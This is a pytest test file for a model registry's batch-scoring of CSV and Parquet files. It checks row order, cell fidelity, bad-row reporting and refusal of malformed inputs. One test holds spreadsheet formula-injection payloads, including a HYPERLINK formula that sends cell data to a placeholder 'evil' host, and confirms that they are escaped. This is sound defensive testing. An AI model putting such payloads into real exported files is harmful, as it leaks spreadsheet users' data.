"""What comes out of a file: every row in its place, cells as they were, answers behind them."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import joblib
import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from sklearn.neighbors import KNeighborsClassifier

from registry import predict, scoring
from registry.core import Registry
from registry.errors import BrokenArtifact, InvalidInput
from registry.records import Actor, BadRow, Version
from tests.conftest import Publish
from tests.registry.scoring.conftest import Score, Stage


def _csv(frame: pd.DataFrame) -> bytes:
    return frame.to_csv(index=False).encode()


def _cells(data: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline=""), delimiter=delimiter))


def test_answers_are_those_of_the_playground(
    reg: Registry, alice: Actor, iris: Version, flowers: pd.DataFrame, score: Score
) -> None:
    told, data = score(_csv(flowers))
    assert (told.state, told.n_rows, told.n_bad) == ("done", 150, 0)
    found = pd.read_csv(io.BytesIO(data))
    said = predict.predict(reg, alice, iris.ref, flowers.to_dict("records"))
    label, shares = said.output("label"), said.output("probabilities")
    assert label
    assert shares
    assert found["prediction"].tolist() == label.values
    names = [f"probability_{name}" for name in shares.classes]
    np.testing.assert_allclose(found[names].to_numpy(), shares.values, rtol=1e-12)
    assert found["problem"].isna().all()


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_cells_stay_what_they_were(delimiter: str, flowers: pd.DataFrame, score: Score) -> None:
    odd = ["001", "1.50", "NA", "", ' "so" ', f"a{delimiter}b", "two\nlines", "=1+1", "ä€😀", "1e3"]
    frame = flowers.head(len(odd)).astype(str).assign(note=odd)
    given = frame.to_csv(index=False, sep=delimiter).encode()
    told, data = score(given)
    assert told.n_bad == 0
    before, after = _cells(given, delimiter), _cells(data, delimiter)
    assert [row[: len(before[0])] for row in after] == before


def test_bad_rows_keep_their_place_and_say_why(flowers: pd.DataFrame, score: Score) -> None:
    lines = _csv(flowers).decode().splitlines()
    lines[3] = "many,2,3,4"
    lines[5] = "1,2,3"
    lines[7] = "1,,3,4"
    lines[9] = "1,2,3,4,5"
    lines[-1] = "1,2"
    told, data = score("\n".join(lines).encode())
    rows = _cells(data)
    assert (told.n_rows, told.n_bad, len(rows)) == (150, 5, 151)
    assert told.problems == (
        BadRow(4, "sepal length (cm): must be a number, got 'many'"),
        BadRow(6, "it has 3 cells, the header has 4"),
        BadRow(8, "sepal width (cm): must have a value"),
        BadRow(10, "it has 5 cells, the header has 4; those too many are left out"),
        BadRow(151, "it has 2 cells, the header has 4"),
    )
    for bad in told.problems:
        row = rows[bad.line - 1]
        assert (row[4:-1], row[-1]) == ([""] * (len(row) - 5), bad.why)
    assert all(row[4] for n, row in enumerate(rows) if n + 1 not in {b.line for b in told.problems})
    assert rows[3][:4] == ["many", "2", "3", "4"]
    assert rows[-1][:4] == ["1", "2", "", ""]


def test_a_row_answered_with_no_number_is_one_without_an_answer(
    flowers: pd.DataFrame, score: Score
) -> None:
    lines = _csv(flowers).decode().splitlines()
    lines[3] = "1e308,-1e308,1e308,-1e308"
    told, data = score("\n".join(lines).encode())
    assert (told.state, told.n_rows, told.n_bad) == ("done", 150, 1)
    assert told.problems[0].line == 4
    found = pd.read_csv(io.BytesIO(data))
    assert found["problem"].notna().tolist() == [n == 2 for n in range(150)]
    assert "no number" in found["problem"][2]
    assert found["prediction"].notna().sum() >= 149


def test_words_of_a_model_are_no_formula(
    alice: Actor, publish_file: Publish, score: Score, tmp_path: Path
) -> None:
    said = ['=HYPERLINK("http://evil/?"&A2)', "@SUM(A1)", "-1", "+2+cmd"]
    model = KNeighborsClassifier(1).fit(np.arange(4.0).reshape(-1, 1), said)
    joblib.dump(model, tmp_path / "said.joblib")
    ref = publish_file(alice, tmp_path / "said.joblib", name="Said").ref
    given = pd.DataFrame({"x0": [0, 1, 2, 3], "mine": ["=1+1", "@A", "-1", "x"]})
    _, data = score(_csv(given), ref=ref)
    header, *rows = _cells(data)
    at = header.index("prediction")
    assert [row[at] for row in rows] == [f"'{said[0]}", f"'{said[1]}", "-1", f"'{said[3]}"]
    assert [row[1] for row in rows] == list(given["mine"])
    assert not [name for name in header if name.startswith(("=", "@", "+", "-"))]


def test_parquet_stays_parquet_with_its_types(flowers: pd.DataFrame, score: Score) -> None:
    table = pa.table(
        {
            **{name: pa.array(flowers[name]) for name in flowers},
            "when": pa.array([pd.Timestamp("2020-02-29", tz="UTC")] * 150),
            "kind": pa.array(["a", "b", None] * 50).dictionary_encode(),
            "list": pa.array([[1, 2], []] * 75),
        }
    )
    sink = io.BytesIO()
    pq.write_table(table.set_column(1, table.column_names[1], pa.array([None] + [3.0] * 149)), sink)
    told, data = score(sink.getvalue(), "rows.parquet")
    found = pq.read_table(io.BytesIO(data))
    assert found.select(table.column_names).equals(pq.read_table(sink))
    assert told.problems == (BadRow(1, "sepal width (cm): must have a value"),)
    assert found["prediction"].null_count == 1
    assert found["prediction"][0].as_py() is None
    assert found["problem"].null_count == 149


def test_a_column_of_the_same_name_is_not_lost(flowers: pd.DataFrame, score: Score) -> None:
    _, data = score(_csv(flowers.assign(prediction="mine", problem="mine too")))
    header = _cells(data)[0]
    assert header[4:7] == ["prediction", "problem", "prediction_2"]
    assert header[-1] == "problem_2"


def test_many_rows_come_back_in_their_order(flowers: pd.DataFrame, score: Score) -> None:
    frame = pd.concat([flowers] * 300, ignore_index=True).assign(n=range(45_000))
    frame["sepal width (cm)"] = frame["sepal width (cm)"].where(frame.n % 7 > 0)
    told, data = score(_csv(frame))
    found = pd.read_csv(io.BytesIO(data))
    assert found["n"].tolist() == list(range(45_000))
    assert told.n_bad == found["prediction"].isna().sum() == len(range(0, 45_000, 7))
    assert len(told.problems) == 100
    good = found[found.problem.isna()]
    by_flower = good.groupby(good.n % 150)["prediction"].nunique()
    assert (by_flower == 1).all()


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"a,b\n1,2\n", "the rows lack sepal length"),
        (b"sepal length (cm)\n1\n", "the rows lack sepal width (cm), petal length (cm)"),
    ],
)
def test_missing_columns_are_named_before_anything_runs(
    data: bytes, why: str, reg: Registry, alice: Actor, iris: Version, stage: Stage
) -> None:
    staged_id = stage(data)
    assert why in scoring.look(reg, alice, iris.ref, staged_id).problem
    with pytest.raises(InvalidInput, match="lack"):
        scoring.start(reg, alice, iris.ref, staged_id)


def test_columns_the_version_does_not_take_are_told_of(
    reg: Registry, alice: Actor, iris: Version, flowers: pd.DataFrame, stage: Stage
) -> None:
    fit = scoring.look(reg, alice, iris.ref, stage(_csv(flowers.assign(name="x", age=3))))
    assert (set(fit.used), fit.ignored, fit.problem) == (set(flowers), ("name", "age"), "")


REFUSED = {
    "an empty header": (b"\n\n", "0 columns"),
    "only a header": (b"a,b\n", "[Ii]t has no rows"),
    "no row as wide as the header": (b"a,b,c\n1,2\n", "[Nn]o row has as many cells"),
    "bytes that are no text": (b"\x00\x01\x02\x03" * 100, "bytes that no text has"),
    "a huge cell": (b"a,b\n" + b"x" * (9 << 20) + b",1\n", "longer than 4 MiB"),
    "too many columns": (b",".join(b"c%d" % n for n in range(10_000)) + b"\n1\n", "10,000 columns"),
    "Parquet cut off": (b"PAR1" + b"\x00" * 200, "Parquet"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_file_that_is_no_table_is_refused_in_words(
    name: str, reg: Registry, alice: Actor, iris: Version, stage: Stage
) -> None:
    data, why = REFUSED[name]
    with pytest.raises(BrokenArtifact, match=why):
        scoring.look(reg, alice, iris.ref, stage(data))


LATER = {
    "a quotation mark without end": (b'1,2,3,4\n"' + b"x" * (9 << 20), "never closed"),
    "a huge cell": (b"1,2,3," + b"4" * (9 << 20) + b"\n", "longer than 4 MiB"),
}


@pytest.mark.parametrize("name", LATER)
def test_what_turns_out_to_be_hostile_half_way_ends_it_in_words(
    name: str, flowers: pd.DataFrame, score: Score, reg: Registry
) -> None:
    data, why = LATER[name]
    rows = pd.concat([flowers] * 2_000)
    told, _ = score(_csv(rows) + data)
    assert told.state == "failed"
    assert why in told.failure
    assert not list(reg.settings.staging_folder.iterdir())


def test_zero_bytes_and_quotation_bombs_are_rows_without_an_answer(
    flowers: pd.DataFrame, score: Score
) -> None:
    rows = pd.concat([flowers] * 1_000)  # behind what is looked at first
    bombs = b"\x00,1,2,3\n" + b'"""""""""""""""""""""""",1,2,3\n' + b'"1"x"2",2,3,4\n' * 500
    told, data = score(_csv(rows) + bombs)
    assert (told.state, told.n_rows, told.n_bad) == ("done", 150_502, 502)
    assert told.problems[0].line == 150_002
    assert data.count(b"\n") == 150_503


def test_when_no_row_can_be_scored_the_first_reasons_are_kept(score: Score) -> None:
    names = "sepal length (cm),sepal width (cm),petal length (cm),petal width (cm)\n"
    told, _ = score((names + "a,b,c,d\n" * 300).encode())
    assert told.state == "failed"
    assert "no row can be scored; line 2: sepal length (cm): must be a number" in told.failure
    assert (told.n_bad, len(told.problems), told.result_bytes) == (300, 100, 0)
